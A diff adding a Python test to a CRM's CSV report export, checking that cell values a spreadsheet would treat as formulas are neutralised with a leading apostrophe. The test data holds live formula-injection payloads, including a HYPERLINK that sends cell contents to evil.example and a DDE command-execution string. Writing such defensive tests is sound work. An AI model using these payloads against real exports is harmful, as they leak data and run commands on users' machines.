@@ -37,3 +37,28 @@ async def test_csv_translates_labels_and_formats_numbers(db: str) -> None:
     assert lines[0].startswith("Group,Queued,Answered,Abandoned,Short abandons,Service level")
     assert lines[2].startswith("Support,2,2,0,0,100.0,20.0,85.0,0.0,1.6,300.0")
     assert len(lines) == 3
+
+
+def _report_with_text(values: list[object]) -> object:
+    from datetime import date
+
+    from crm.stats.types import INT, TEXT, Chart, Column, Report
+
+    return Report(
+        name="pauses", title="Pauses", interval=Interval(date(2026, 1, 1), date(2026, 1, 1)),
+        filters=Filters(), columns=[Column("reason", "Reason", TEXT), Column("n", "N", INT)],
+        rows=[{"reason": value, "n": -3} for value in values], chart=Chart(labels=[], datasets=[]),
+    )
+
+
+def test_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised() -> None:
+    """Item 5 of issue 13: a pause reason, agent or group name typed as a formula reaches
+    the export as text (prefixed with '), never as a formula; numbers stay numbers."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+33 1 23", "-2+3",
+               "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+    text = report_to_csv(_report_with_text([*hostile, "Lunch"]))  # type: ignore[arg-type]
+    rows = list(csv.reader(io.StringIO(text)))[1:]
+    for (reason, n), value in zip(rows, hostile, strict=False):
+        assert reason == "'" + value
+        assert n == "-3"
+    assert rows[-1] == ["Lunch", "-3"]
